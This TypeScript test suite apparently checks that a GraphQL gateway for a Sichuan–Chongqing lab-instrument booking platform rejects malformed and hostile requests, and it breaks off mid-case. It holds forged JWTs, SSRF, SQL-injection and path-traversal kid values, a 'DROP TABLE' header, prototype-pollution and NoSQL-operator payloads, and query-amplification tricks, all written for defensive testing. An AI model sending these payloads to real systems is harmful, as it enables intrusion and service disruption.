/** A JSON array of `count` copies of an operation: a batch. */
const batchOf = (count: number, query: string) => json(JSON.stringify(Array.from({ length: count }, () => ({ query }))));
/** A limit refusal naming the variable that sets it. */
const limitRefusal = (limit: string, extensions: Record<string, unknown> = {}): Refusal => ({ ...VALIDATION_FAILED, extensions: { limit, ...extensions } });

/** Free slots over 31 days of 100 Sichuan instruments, under `count` aliases: no `first` on availability. */
function aliasedAvailability(count: number): string {
  const page = 'instruments(first: 100) { edges { node { availability(from: "2030-01-01T00:00:00Z", to: "2030-02-01T00:00:00Z") { start end } } } }';
  return `{ sichuan { ${Array.from({ length: count }, (_, i) => `a${i}: ${page}`).join(' ')} } }`;
}

/** Each instrument's id under `count` aliases of `length` characters: a small, cheap request with a large answer. */
function longAliases(province: 'sichuan' | 'chongqing', count: number, length: number): string {
  const keys = Array.from({ length: count }, (_, i) => `a${i}_${'x'.repeat(length)}: id`).join(' ');
  return `{ ${province} { instruments(first: 100) { edges { node { ${keys} } } } } }`;
}

describe('malformed bodies', () => {
  cases([
    { name: 'truncated JSON', targets: BOTH, request: () => json('{"query": "{ __typename }"'), expect: BAD_REQUEST },
    { name: 'JSON followed by garbage', targets: BOTH, request: () => json(`${TYPENAME} trailing`), expect: BAD_REQUEST },
    { name: 'a JSON null', targets: BOTH, request: () => json('null'), expect: BAD_REQUEST },
    { name: 'a JSON number', targets: BOTH, request: () => json('42'), expect: BAD_REQUEST },
    { name: 'a JSON string holding the operation', targets: BOTH, request: () => json(JSON.stringify('{ __typename }')), expect: BAD_REQUEST },
    { name: 'an empty body', targets: BOTH, request: () => json(''), expect: BAD_REQUEST },
    { name: 'an empty object', targets: BOTH, request: () => json('{}'), expect: BAD_REQUEST },
    { name: 'query is a number', targets: BOTH, request: () => json('{"query": 5}'), expect: BAD_REQUEST },
    { name: 'query is an empty string', targets: BOTH, request: () => json('{"query": ""}'), expect: BAD_REQUEST },
    { name: 'query is null', request: () => json('{"query": null, "variables": {}}'), expect: BAD_REQUEST },
    { name: 'variables as a JSON-encoded string', targets: BOTH, request: () => json('{"query": "{ __typename }", "variables": "{}"}'), expect: BAD_REQUEST },
    { name: 'variables as an array', targets: BOTH, request: () => json('{"query": "{ __typename }", "variables": [1]}'), expect: BAD_REQUEST },
    { name: 'extensions as a string', request: () => json('{"query": "{ __typename }", "extensions": "x"}'), expect: BAD_REQUEST },
    { name: 'operationName as a number', targets: BOTH, request: () => json('{"query": "{ __typename }", "operationName": 5}'), expect: BAD_REQUEST },
    {
      name: 'an operationName the document does not define',
      targets: BOTH,
      request: () => json('{"query": "query A { __typename }", "operationName": "B"}'),
      expect: refused(['OPERATION_RESOLUTION_FAILURE', 'GRAPHQL_VALIDATION_FAILED', 'BAD_REQUEST'], 400),
    },
    {
      name: 'two named operations and no operationName',
      targets: BOTH,
      request: () => json('{"query": "query A { __typename } query B { __typename }"}'),
      expect: refused(['OPERATION_RESOLUTION_FAILURE', 'GRAPHQL_VALIDATION_FAILED', 'BAD_REQUEST'], 400),
    },
    { name: 'arrays nested 5000 deep', targets: BOTH, request: () => json(`${'['.repeat(5000)}1${']'.repeat(5000)}`), expect: BAD_REQUEST },
    { name: 'an empty batch', targets: BOTH, request: () => json('[]'), expect: BAD_REQUEST },
    { name: 'a batch holding a number', request: () => json(`[${TYPENAME}, 5]`), expect: BAD_REQUEST },
    {
      name: 'prototype pollution keys in the body and variables',
      request: () => json('{"query": "{ __typename }", "__proto__": {"isAdmin": true}, "constructor": {"prototype": {"x": 1}}, "variables": {"__proto__": {"admin": true}}}'),
      expect: { ok: (data) => expect(data).toEqual({ __typename: 'Query' }) },
    },
    {
      name: 'bytes that are not UTF-8 inside a string',
      request: () => ({ raw: { method: 'POST', headers: { 'content-type': 'application/json' }, body: Buffer.concat([Buffer.from('{"query": "{ sichuan { instruments(filter: { keyword: \\"ab'), Buffer.from([0xff, 0xfe, 0xc0]), Buffer.from('\\" }) { totalCount } } }"}')]) } }),
      expect: { ok: (data) => expect(data.sichuan.instruments.totalCount).toBe(0) },
    },
    { name: 'a body declared as UTF-16', targets: BOTH, request: () => json(TYPENAME, { 'content-type': 'application/json; charset=utf-16' }), expect: refused('BAD_REQUEST', [400, 415]) },
    { name: 'a body declared gzip that is not', targets: BOTH, request: () => json(TYPENAME, { 'content-encoding': 'gzip' }), expect: refused('BAD_REQUEST', [400, 415]) },
    { name: 'an unknown content-encoding', targets: BOTH, request: () => json(TYPENAME, { 'content-encoding': 'x-evil' }), expect: refused('BAD_REQUEST', 415) },
  ]);
});

describe('wrong content types, methods and paths', () => {
  const body = (contentType?: string, extra: Record<string, string> = {}): RequestSpec => ({
    raw: { method: 'POST', headers: { ...(contentType ? { 'content-type': contentType } : {}), ...extra }, body: TYPENAME },
  });
  cases([
    { name: 'text/plain (a cross-site form could send it)', targets: BOTH, request: () => body('text/plain'), expect: BAD_REQUEST },
    { name: 'no content-type', targets: BOTH, request: () => body(), expect: BAD_REQUEST },
    { name: 'application/x-www-form-urlencoded', targets: BOTH, request: () => ({ raw: { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'query=%7B__typename%7D' } }), expect: BAD_REQUEST },
    { name: 'multipart/form-data', targets: BOTH, request: () => body('multipart/form-data; boundary=x'), expect: BAD_REQUEST },
    { name: 'application/xml', targets: BOTH, request: () => ({ raw: { method: 'POST', headers: { 'content-type': 'application/xml' }, body: '<query>{ __typename }</query>' } }), expect: BAD_REQUEST },
    { name: 'PUT', targets: BOTH, request: () => json(TYPENAME, {}, 'PUT'), expect: refused('BAD_REQUEST', 405) },
    { name: 'DELETE', request: () => json(TYPENAME, {}, 'DELETE'), expect: refused('BAD_REQUEST', 405) },
    { name: 'GET without a CSRF preflight header', targets: BOTH, request: () => ({ raw: { method: 'GET', search: 'query=%7B__typename%7D' } }), expect: BAD_REQUEST },
    {
      name: 'a mutation over GET',
      targets: BOTH,
      request: () => ({ raw: { method: 'GET', search: `query=${encodeURIComponent('mutation { __typename }')}`, headers: { 'apollo-require-preflight': 'true' } } }),
      expect: refused('BAD_REQUEST', 405),
    },
    { name: 'a path other than /graphql', targets: BOTH, request: () => ({ raw: { ...json(TYPENAME).raw, path: '/graphql/../admin' } }), expect: refused('NOT_FOUND', 404) },
  ]);
});

describe('tokens that are not the platform’s', () => {
  const me = () => json('{"query": "{ me { id } }"}');
  cases([
    { name: 'a bearer token that is not a JWT', targets: BOTH, request: () => json('{"query": "{ me { id } }"}', bearer('not-a-token')), expect: INVALID_TOKEN },
    { name: 'Basic credentials', targets: BOTH, request: () => json('{"query": "{ me { id } }"}', { authorization: 'Basic c2MuYWRtaW46c2h1YW5nY2hlbmctZGVtbw==' }), expect: INVALID_TOKEN },
    {
      name: 'an unsigned token (alg none) claiming a platform admin',
      targets: BOTH,
      request: () => json('{"query": "{ me { id } }"}', bearer(`${base64url({ alg: 'none', typ: 'JWT' })}.${base64url(claims({ roles: ['platform_admin'], exp: 4_000_000_000 }))}.`)),
      expect: INVALID_TOKEN,
    },
    {
      name: 'an HS256 token signed with a guessed secret',
      targets: BOTH,
      request: () => json('{"query": "{ me { id } }"}', bearer(jwt.sign(claims(), 'secret', { algorithm: 'HS256', expiresIn: 600 }))),
      expect: INVALID_TOKEN,
    },
    {
      name: "an RS256 token signed with another key under the platform's kid",
      targets: BOTH,
      request: async () => json('{"query": "{ me { id } }"}', bearer(jwt.sign(claims(), foreignKey.privateKey, { algorithm: 'RS256', keyid: await platformKid(), expiresIn: 600 }))),
      expect: INVALID_TOKEN,
    },
    {
      name: "li.wei's token with its payload changed to a Sichuan admin",
      targets: BOTH,
      request: () => {
        const [header, payload, signature] = fx.tokens['li.wei'].split('.');
        const changed = { ...JSON.parse(Buffer.from(payload!, 'base64url').toString()), roles: ['province_admin'], province: 'sichuan' };
        return json('{"query": "{ me { id } }"}', bearer(`${header}.${base64url(changed)}.${signature}`));
      },
      expect: INVALID_TOKEN,
    },
    {
      name: 'an RS256 token under a kid the JWKS does not list',
      targets: BOTH,
      request: () => json('{"query": "{ me { id } }"}', bearer(jwt.sign(claims(), foreignKey.privateKey, { algorithm: 'RS256', keyid: `forged-${randomUUID()}`, expiresIn: 600 }))),
      expect: INVALID_TOKEN,
    },
    ...['../../../../dev/null', 'http://169.254.169.254/latest/meta-data', "' OR '1'='1", 'k'.repeat(10_000)].map((kid): Case => ({
      name: `a kid that is ${kid.length > 100 ? '10 000 characters long' : kid}`,
      targets: BOTH,
      request: () => json('{"query": "{ me { id } }"}', bearer(jwt.sign(claims(), foreignKey.privateKey, { algorithm: 'RS256', keyid: kid, expiresIn: 600 }))),
      expect: INVALID_TOKEN,
    })),
    {
      name: 'a jku header pointing at a key set the attacker serves',
      targets: BOTH,
      request: () => json('{"query": "{ me { id } }"}', bearer(jwt.sign(claims(), foreignKey.privateKey, { algorithm: 'RS256', keyid: 'attacker', header: { alg: 'RS256', jku: 'http://127.0.0.1:1/jwks.json' }, expiresIn: 600 }))),
      expect: INVALID_TOKEN,
    },
    {
      name: 'a jwk header embedding the key that signed it',
      targets: BOTH,
      request: async () => json('{"query": "{ me { id } }"}', bearer(jwt.sign(claims(), foreignKey.privateKey, { algorithm: 'RS256', keyid: await platformKid(), header: { alg: 'RS256', jwk: foreignKey.publicKey.export({ format: 'jwk' }) } as jwt.JwtHeader, expiresIn: 600 }))),
      expect: INVALID_TOKEN,
    },
    { name: 'two bearer tokens in one header', request: () => json('{"query": "{ me { id } }"}', { authorization: `Bearer ${fx.tokens['li.wei']}, Bearer ${fx.tokens['sc.admin']}` }), expect: INVALID_TOKEN },
    { name: 'a 6 KB token', request: () => json('{"query": "{ me { id } }"}', bearer('a'.repeat(6000))), expect: INVALID_TOKEN },
    { name: 'a request id carrying SQL is answered normally', request: () => ({ raw: { ...me().raw, headers: { 'content-type': 'application/json', 'x-request-id': "'; DROP TABLE audit_log; --" } } }), expect: { ok: (data) => expect(data).toEqual({ me: null }) } },
  ]);
});

describe('documents that do not parse or validate', () => {
  cases([
    { name: 'a syntax error', targets: BOTH, request: () => op('{ sichuan { '), expect: PARSE_FAILED },
    { name: 'an unterminated string', request: () => op('{ instrument(id: "sc:instrument:) { id } }'), expect: PARSE_FAILED },
    { name: 'an unknown field', targets: BOTH, request: () => op('{ users { passwordHash } }'), expect: VALIDATION_FAILED },
    { name: 'circular fragments', targets: BOTH, request: () => op('query { ...A } fragment A on Query { ...B } fragment B on Query { ...A }'), expect: VALIDATION_FAILED },
    { name: 'a fragment spreading itself', targets: BOTH, request: () => op('query { ...A } fragment A on Query { __typename ...A }'), expect: VALIDATION_FAILED },
    { name: 'an unknown fragment', request: () => op('{ ...Nope }'), expect: VALIDATION_FAILED },
    { name: 'an unused fragment', request: () => op('{ __typename } fragment A on Query { __typename }'), expect: VALIDATION_FAILED },
    { name: 'a fragment on the wrong type', request: () => op('{ ...F } fragment F on Mutation { __typename }'), expect: VALIDATION_FAILED },
    { name: 'an unknown directive', request: () => op('{ __typename @evil }'), expect: VALIDATION_FAILED },
    { name: 'a string where @skip needs a Boolean', request: () => op('{ __typename @skip(if: "yes") }'), expect: VALIDATION_FAILED },
    { name: 'a variable declared twice', request: () => op('query($f: Int, $f: Int) { sichuan { instruments(first: $f) { totalCount } } }'), expect: VALIDATION_FAILED },
    { name: 'an undeclared variable', request: () => op('{ sichuan { instruments(first: $f) { totalCount } } }'), expect: VALIDATION_FAILED },
    { name: 'a mutation field asked in a query', request: () => op('{ login(username: "li.wei", password: "x") { token } }'), expect: VALIDATION_FAILED },
    {
      name: 'a subscription (the schema has none)',
      targets: BOTH,
      request: () => op('subscription { bookings { id } }'),
      expect: refused(['GRAPHQL_VALIDATION_FAILED', 'BAD_REQUEST', 'OPERATION_RESOLUTION_FAILURE'], 400),
    },
    { name: 'an enum value that does not exist', targets: BOTH, request: () => op('{ sichuan { instruments(filter: { status: EXPLODED }) { totalCount } } }'), expect: VALIDATION_FAILED },
    { name: 'an Int literal beyond 32 bits', targets: BOTH, request: () => op('{ sichuan { instruments(first: 2147483648) { totalCount } } }'), expect: VALIDATION_FAILED },
  ]);
});

describe('invalid variables', () => {
  const FIRST = 'query($f: Int) { sichuan { instruments(first: $f) { totalCount } } }';
  const FILTER = 'query($f: InstrumentFilter) { sichuan { instruments(filter: $f) { totalCount } } }';
  cases([
    { name: 'a word for an Int', targets: BOTH, request: () => op(FIRST, { f: 'ten' }), expect: BAD_VARIABLE },
    { name: 'a fraction for an Int', targets: BOTH, request: () => op(FIRST, { f: 1.5 }), expect: BAD_VARIABLE },
    { name: 'a required variable left out', targets: BOTH, request: () => op('query($id: ID!) { sichuan { instrument(id: $id) { id } } }'), expect: BAD_VARIABLE },
    { name: 'two anonymous operations', targets: BOTH, request: () => op('query { __typename } query { __typename }'), expect: VALIDATION_FAILED },
    { name: 'null for a non-null variable', request: () => op('query($id: ID!) { instrument(id: $id) { id } }', { id: null }), expect: BAD_VARIABLE },
    { name: 'an object for an ID', request: () => op('query($id: ID!) { instrument(id: $id) { id } }', { id: { $ne: null } }), expect: BAD_VARIABLE },
    { name: 'an object for a String', request: () => op('query($k: String) { sichuan { instruments(filter: { keyword: $k }) { totalCount } } }', { k: { toString: 'x' } }), expect: BAD_VARIABLE },
    { name: 'an unknown enum value', targets: BOTH, request: () => op(FILTER, { f: { status: 'EXPLODED' } }), expect: BAD_VARIABLE },
    { name: 'an unknown input field', targets: BOTH, request: () => op(FILTER, { f: { keyword: 'nmr', isAdmin: true } }), expect: BAD_VARIABLE },
    { name: 'an input object nested 5000 deep', request: () => json(`{"query": ${JSON.stringify(FILTER)}, "variables": {"f": ${'['.repeat(5000)}1${']'.repeat(5000)}}}`), expect: BAD_VARIABLE },
    {
      name: 'an input object missing a required field',
      as: 'sc.admin',
      guard: true,
      request: (m) => op(CREATE_INSTRUMENT, { input: { ...validInstrument(m), name: undefined } }),
      expect: BAD_VARIABLE,
    },
    {
      name: 'an Int beyond 32 bits for openFromHour',
      as: 'sc.admin',
      guard: true,
      request: (m) => op(CREATE_INSTRUMENT, { input: { ...validInstrument(m), openFromHour: 2 ** 31 } }),
      expect: BAD_VARIABLE,
    },
    {
      name: 'Infinity for a Float (1e400)',
      as: 'sc.admin',
      guard: true,
      request: (m) => json(JSON.stringify({ query: CREATE_INSTRUMENT, variables: { input: validInstrument(m) } }).replace('"hourlyFee":10', '"hourlyFee":1e400')),
      expect: BAD_VARIABLE,
    },
    {
      name: 'a number for a DateTime variable',
      targets: BOTH,
      request: () => op(STATS, { from: 1_700_000_000_000 }),
      expect: refused('BAD_USER_INPUT', [200, 400]),
    },
    {
      name: 'a number for a DateTime literal',
      targets: BOTH,
      request: () => op('{ sichuan { stats(from: 1700000000000) { labs } } }'),
      expect: refused(['GRAPHQL_VALIDATION_FAILED', 'BAD_USER_INPUT'], [200, 400]),
    },
  ]);
});

describe('ids of the wrong province or type', () => {
  const BOOK_AS = (i: string, m: string) => op(BOOK, { ...validBooking(m), i });
  cases([
    { name: 'a Chongqing instrument asked of Sichuan', targets: BOTH, request: () => op('query($id: ID!) { sichuan { instrument(id: $id) { id } } }', { id: fx.cqInstrument }), expect: BAD_USER_INPUT },
    { name: 'an instrument id as a lab id', targets: BOTH, request: () => op('query($id: ID!) { sichuan { lab(id: $id) { id } } }', { id: fx.scInstrument }), expect: BAD_USER_INPUT },
    { name: 'a lab id as an instrument id (top level)', targets: ['gateway', 'platform'], request: () => op('query($id: ID!) { instrument(id: $id) { id } }', { id: fx.scLab }), expect: BAD_USER_INPUT },
    { name: 'an id of an unknown province', request: () => op('query($id: ID!) { lab(id: $id) { id } }', { id: `xx:lab:${randomUUID()}` }), expect: BAD_USER_INPUT },
    { name: 'an id whose key is not a UUID', request: () => op('query($id: ID!) { instrument(id: $id) { id } }', { id: 'sc:instrument:1 OR 1=1' }), expect: BAD_USER_INPUT },
    { name: 'a booking id as a talent card id', as: 'li.wei', request: () => op('query($id: ID!) { talentCard(id: $id) { id } }', { id: fx.scBooking }), expect: BAD_USER_INPUT },
    { name: 'a Chongqing card number asked of Sichuan finds nothing', as: 'li.wei', request: () => op('{ sichuan { talentCard(cardNumber: "CQ-RC-2023-000512") { id } } }'), expect: { ok: (data) => expect(data.sichuan.talentCard).toBeNull() } },
    { name: 'a card number neither province issues', as: 'sc.admin', request: () => op('{ verifyTalentCard(cardNumber: "XX-2024-000001") { status } }'), expect: BAD_USER_INPUT },
    { name: 'booking a Chongqing instrument in Sichuan', as: 'li.wei', targets: BOTH, guard: true, request: (m) => BOOK_AS(fx.cqInstrument, m), expect: BAD_USER_INPUT },
    { name: 'booking a lab', as: 'li.wei', guard: true, request: (m) => BOOK_AS(fx.scLab, m), expect: BAD_USER_INPUT },
    { name: 'booking an instrument that does not exist', as: 'li.wei', guard: true, request: (m) => BOOK_AS(scId('instrument'), m), expect: NOT_FOUND },
    { name: 'confirming a Chongqing booking in Sichuan', as: 'sc.admin', targets: BOTH, guard: true, request: () => op('mutation($id: ID!) { confirmSichuanBooking(bookingId: $id) { id } }', { id: fx.cqBooking }), expect: BAD_USER_INPUT },
    { name: 'confirming a booking that does not exist', as: 'sc.admin', guard: true, request: () => op('mutation($id: ID!) { confirmSichuanBooking(bookingId: $id) { id } }', { id: scId('booking') }), expect: NOT_FOUND },
    { name: 'cancelling an instrument id', as: 'chen.jing', guard: true, request: () => op('mutation($id: ID!) { cancelSichuanBooking(bookingId: $id) { id } }', { id: fx.scInstrument }), expect: BAD_USER_INPUT },
    { name: 'renewing an instrument id', as: 'sc.admin', guard: true, request: () => op('mutation($id: ID!, $d: DateTime!) { renewSichuanTalentCard(id: $id, validUntil: $d) { id } }', { id: fx.scInstrument, d: daysFromNow(900) }), expect: BAD_USER_INPUT },
    { name: 'Chongqing revoking a Sichuan card', as: 'cq.admin', targets: ['gateway', 'chongqing'], guard: true, request: () => op('mutation($id: ID!) { revokeChongqingTalentCard(id: $id, reason: "Reported lost") { id } }', { id: fx.scCard.id }), expect: BAD_USER_INPUT },
    { name: 'retiring a lab id as an instrument', as: 'sc.admin', guard: true, request: () => op('mutation($id: ID!) { retireSichuanInstrument(id: $id, reason: "Replaced") { id } }', { id: fx.scLab }), expect: BAD_USER_INPUT },
    { name: 'retiring a Chongqing lab in Sichuan', as: 'sc.admin', guard: true, request: () => op('mutation($id: ID!) { retireSichuanLab(id: $id, reason: "Closed") { id } }', { id: fx.cqLab }), expect: BAD_USER_INPUT },
    { name: 'changing a Chongqing instrument in Sichuan', as: 'sc.admin', guard: true, request: (m) => op('mutation($id: ID!, $n: String) { updateSichuanInstrument(id: $id, input: { name: $n }) { id } }', { id: fx.cqInstrument, n: m }), expect: BAD_USER_INPUT },
    { name: 'a new Sichuan instrument in a Chongqing lab', as: 'sc.admin', guard: true, request: (m) => op(CREATE_INSTRUMENT, { input: { ...validInstrument(m), labId: fx.cqLab } }), expect: BAD_USER_INPUT },
    { name: 'moving an instrument into a lab that does not exist', as: 'sc.admin', guard: true, request: () => op('mutation($id: ID!, $lab: ID) { updateSichuanInstrument(id: $id, input: { labId: $lab }) { id } }', { id: fx.scInstrument, lab: scId('lab') }), expect: BAD_USER_INPUT },
    { name: 'a joint lab listing a Sichuan instrument as the partner’s', as: 'sc.admin', guard: true, request: (m) => op(CREATE_LAB, { input: { ...validLab(m), partnerProvince: 'CHONGQING', partnerInstrumentIds: [fx.scInstrument] } }), expect: BAD_USER_INPUT },
    { name: 'a joint lab listing a Chongqing instrument that does not exist', as: 'sc.admin', guard: true, request: (m) => op(CREATE_LAB, { input: { ...validLab(m), partnerProvince: 'CHONGQING', partnerInstrumentIds: [cqId('instrument')] } }), expect: BAD_USER_INPUT },
    { name: 'a Sichuan lab built jointly with Sichuan', as: 'sc.admin', guard: true, request: (m) => op(CREATE_LAB, { input: { ...validLab(m), partnerProvince: 'SICHUAN' } }), expect: BAD_USER_INPUT },
    { name: 'a card holder id that is not a user id', as: 'sc.admin', guard: true, request: (m) => op(ISSUE, { input: { ...validCard(m), holderUserId: 'sc:user:li.wei' } }), expect: BAD_USER_INPUT },
    { name: 'a card holder the platform has no account for', as: 'sc.admin', guard: true, request: (m) => op(ISSUE, { input: { ...validCard(m), holderUserId: randomUUID() } }), expect: BAD_USER_INPUT },
    { name: 'bookings of a Chongqing instrument asked of Sichuan', as: 'sc.admin', request: () => op('query($id: ID) { sichuan { bookings(instrumentId: $id) { totalCount } } }', { id: fx.cqInstrument }), expect: BAD_USER_INPUT },
    { name: 'instruments of a Chongqing lab asked of Sichuan', request: () => op('query($id: ID) { sichuan { instruments(filter: { labId: $id }) { totalCount } } }', { id: fx.cqLab }), expect: BAD_USER_INPUT },
    {
      name: 'an entity representation of the wrong province',
      targets: ['sichuan'],
      request: () => op('query($r: [_Any!]!) { _entities(representations: $r) { ... on SichuanInstrument { name } } }', { r: [{ __typename: 'SichuanInstrument', id: fx.cqInstrument }] }, { headers: asGateway() }),
      expect: BAD_USER_INPUT,
    },
    {
      name: 'an entity representation of an unknown type',
      targets: ['sichuan'],
      request: () => op('query($r: [_Any!]!) { _entities(representations: $r) { __typename } }', { r: [{ __typename: 'UserEntity', id: 'x' }] }, { headers: asGateway() }),
      expect: refused(['BAD_USER_INPUT', 'GRAPHQL_VALIDATION_FAILED'], [200, 400]),
    },
    {
      name: 'an entity representation without __typename',
      targets: ['sichuan'],
      request: () => op('query($r: [_Any!]!) { _entities(representations: $r) { __typename } }', { r: [{ id: fx.scInstrument }] }, { headers: asGateway() }),
      expect: refused(['BAD_USER_INPUT', 'GRAPHQL_VALIDATION_FAILED'], [200, 400]),
    },
    {
      name: 'an entity representation that is a string',
      targets: ['sichuan'],
      request: () => op('query($r: [_Any!]!) { _entities(representations: $r) { __typename } }', { r: ['SichuanInstrument'] }, { headers: asGateway() }),
      expect: refused(['BAD_USER_INPUT', 'GRAPHQL_VALIDATION_FAILED'], [200, 400]),
    },
    {
      name: 'an entity key that is an object',
      targets: ['sichuan'],
      request: () => op('query($r: [_Any!]!) { _entities(representations: $r) { ... on SichuanInstrument { name } } }', { r: [{ __typename: 'SichuanInstrument', id: { $gt: '' } }] }, { headers: asGateway() }),
      expect: BAD_USER_INPUT,
    },
  ]);
});

describe('reused idempotency keys and hoarded slots', () => {
  /** Books the case's valid request as li.wei, then sends it again under the same key with `change`. */
  const reusedKey = (change: (first: ReturnType<typeof validBooking>) => Record<string, unknown>) => async (m: string) => {
    const first = validBooking(m);
    const { body } = await gateway(BOOK, { token: fx.tokens['li.wei'], variables: first });
    if (body.errors) throw new Error(JSON.stringify(body.errors));
    return op(BOOK, { ...first, ...change(first) });
  };
  const CQ_BOOK = BOOK.replace('bookSichuanInstrument', 'bookChongqingInstrument');
  const cqBooking = (m: string) => {
    const slot = fx.cqSlots.take();
    return { i: fx.cqInstrument, s: slot.start, e: slot.end, p: `Bad input check ${m}`, k: `key-${m}` };
  };
  /** chen.jing books Chongqing slots until the open-booking cap refuses her, then asks once more. */
  const beyondTheCap = async (m: string) => {
    for (let n = 0; n <= DEFAULT_MAX_OPEN_BOOKINGS_PER_PERSON; n++) {
      const { body } = await gateway(CQ_BOOK, { token: fx.tokens['chen.jing'], variables: cqBooking(`${m}-${n}`) });
      if (body.errors?.[0]?.extensions?.['reason'] === 'OPEN_BOOKING_LIMIT') return op(CQ_BOOK, cqBooking(m));
      if (body.errors) throw new Error(JSON.stringify(body.errors));
    }
    throw new Error('the open-booking cap never refused a request');
  };
  cases([
    { name: 'an idempotency key reused with another purpose', as: 'li.wei', targets: BOTH, guard: true, request: reusedKey(() => ({ p: 'Something else entirely' })), expect: CONFLICT },
    { name: 'an idempotency key reused for another slot', as: 'li.wei', targets: BOTH, guard: true, request: reusedKey(() => { const slot = fx.scSlots.take(); return { s: slot.start, e: slot.end }; }), expect: CONFLICT },
    { name: 'an idempotency key reused for another instrument', as: 'li.wei', guard: true, request: reusedKey(() => ({ i: scId('instrument') })), expect: CONFLICT },
    { name: 'one open booking more than the cap allows', as: 'chen.jing', targets: ['gateway', 'chongqing'], guard: true, request: beyondTheCap, expect: CONFLICT },
  ]);
});

describe('absurd dates and ranges', () => {
  const statsAt = (from?: string, to?: string) => op(STATS, { from, to });
  const dateCase = (name: string, from: string): Case => ({ name, targets: BOTH, request: () => statsAt(from), expect: refused('BAD_USER_INPUT', [200, 400]) });
  const bookAt = (start: string, end: string) => (m: string) => op(BOOK, { ...validBooking(m), s: start, e: end });
  cases([
    dateCase('the year 1', '0001-01-01T00:00:00Z'),
    dateCase('30 February', '2026-02-30T09:00:00+08:00'),
    dateCase('a time without a zone', '2026-12-01T09:00:00'),
    dateCase('the year 9999', '9999-12-31T23:59:59Z'),
    dateCase('hour 25', '2026-12-01T25:61:00Z'),
    dateCase('a date only', '2026-12-01'),
    dateCase('a Unix time as text', '1700000000'),
    { name: 'a period that ends before it starts', targets: BOTH, request: () => statsAt(daysFromNow(0), daysFromNow(-10)), expect: BAD_USER_INPUT },
    { name: 'a period of ten years', targets: BOTH, request: () => statsAt('2020-01-01T00:00:00Z', '2030-01-01T00:00:00Z'), expect: BAD_USER_INPUT },
    { name: 'availability ending before it starts', request: () => op(AVAILABILITY, { id: fx.scInstrument, from: daysFromNow(3), to: daysFromNow(2) }), expect: BAD_USER_INPUT },
    { name: 'availability over 40 days', request: () => op(AVAILABILITY, { id: fx.scInstrument, from: daysFromNow(1), to: daysFromNow(41) }), expect: BAD_USER_INPUT },
    { name: 'a booking yesterday', as: 'li.wei', guard: true, request: bookAt(localTime(-1, 10), localTime(-1, 11)), expect: BAD_USER_INPUT },
    { name: 'a booking ten years ahead', as: 'li.wei', guard: true, request: bookAt(localTime(3650, 10), localTime(3650, 11)), expect: BAD_USER_INPUT },
    { name: 'a booking that ends before it starts', as: 'li.wei', guard: true, request: bookAt(localTime(30, 11), localTime(30, 10)), expect: BAD_USER_INPUT },
    { name: 'a booking of zero length', as: 'li.wei', guard: true, request: bookAt(localTime(30, 10), localTime(30, 10)), expect: BAD_USER_INPUT },
    { name: 'a booking over three days', as: 'li.wei', guard: true, request: bookAt(localTime(30, 10), localTime(33, 10)), expect: BAD_USER_INPUT },
    { name: 'a booking at 10:01', as: 'li.wei', guard: true, request: bookAt(localTime(30, 10, 1), localTime(30, 11, 1)), expect: BAD_USER_INPUT },
    { name: 'a card valid until yesterday', as: 'sc.admin', guard: true, request: (m) => op(ISSUE, { input: { ...validCard(m), validUntil: daysFromNow(-1) } }), expect: BAD_USER_INPUT },
    { name: 'a card valid until 2199', as: 'sc.admin', guard: true, request: (m) => op(ISSUE, { input: { ...validCard(m), validUntil: '2199-12-31T00:00:00+08:00' } }), expect: BAD_USER_INPUT },
    { name: 'renewing a card to an earlier day', as: 'sc.admin', guard: true, request: () => op('mutation($id: ID!, $d: DateTime!) { renewSichuanTalentCard(id: $id, validUntil: $d) { id } }', { id: fx.scCard.id, d: daysFromNow(30) }), expect: BAD_USER_INPUT },
    { name: 'opening hour 25', as: 'sc.admin', guard: true, request: (m) => op(CREATE_INSTRUMENT, { input: { ...validInstrument(m), openToHour: 25 } }), expect: BAD_USER_INPUT },
    { name: 'closing before opening', as: 'sc.admin', guard: true, request: (m) => op(CREATE_INSTRUMENT, { input: { ...validInstrument(m), openFromHour: 17, openToHour: 9 } }), expect: BAD_USER_INPUT },
    { name: 'a 45-minute booking unit', as: 'sc.admin', guard: true, request: (m) => op(CREATE_INSTRUMENT, { input: { ...validInstrument(m), minBookingMinutes: 45 } }), expect: BAD_USER_INPUT },
    { name: 'a negative fee', as: 'sc.admin', guard: true, request: (m) => op(CREATE_INSTRUMENT, { input: { ...validInstrument(m), hourlyFee: -1 } }), expect: BAD_USER_INPUT },
    { name: 'a fee of 1e308 yuan', as: 'sc.admin', guard: true, request: (m) => op(CREATE_INSTRUMENT, { input: { ...validInstrument(m), hourlyFee: 1e308 } }), expect: BAD_USER_INPUT },
    { name: 'a fee of a tenth of a fen', as: 'sc.admin', guard: true, request: (m) => op(CREATE_INSTRUMENT, { input: { ...validInstrument(m), hourlyFee: 0.001 } }), expect: BAD_USER_INPUT },
  ]);
});

describe('oversized strings', () => {
  const huge = (length: number) => 'x'.repeat(length);
  cases([
    { name: 'a 100 000-character booking purpose', as: 'li.wei', targets: BOTH, guard: true, request: (m) => op(BOOK, { ...validBooking(m), p: huge(100_000) }), expect: BAD_USER_INPUT },
    { name: 'a 5 000-character search keyword', targets: BOTH, request: () => op('query($k: String) { sichuan { instruments(filter: { keyword: $k }) { totalCount } } }', { k: huge(5_000) }), expect: BAD_USER_INPUT },
    { name: 'a 900 KB search keyword', request: () => op('query($k: String) { sichuan { instruments(filter: { keyword: $k }) { totalCount } } }', { k: huge(900_000) }), expect: BAD_USER_INPUT },
    { name: 'a 100 000-character card number', as: 'li.wei', request: () => op('query($n: String!) { sichuan { talentCard(cardNumber: $n) { id } } }', { n: huge(100_000) }), expect: BAD_USER_INPUT },
    { name: 'a 100 000-character card number to verify', as: 'sc.admin', request: () => op('query($n: String!) { verifyTalentCard(cardNumber: $n) { status } }', { n: huge(100_000) }), expect: BAD_USER_INPUT },
    { name: 'a 10 000-character id', targets: ['gateway', 'platform'], request: () => op('query($id: ID!) { instrument(id: $id) { id } }', { id: `sc:instrument:${huge(10_000)}` }), expect: BAD_USER_INPUT },
    { name: 'a 10 000-character username', request: () => op('mutation($u: String!) { login(username: $u, password: "x") { token } }', { u: huge(10_000) }, { headers: { 'x-forwarded-for': someAddress() } }), expect: BAD_USER_INPUT },
    { name: 'a 100 000-character password', request: (m) => op('mutation($u: String!, $p: String!) { login(username: $u, password: $p) { token } }', { u: `nobody-${m}`, p: huge(100_000) }, { headers: { 'x-forwarded-for': someAddress() } }), expect: BAD_USER_INPUT },
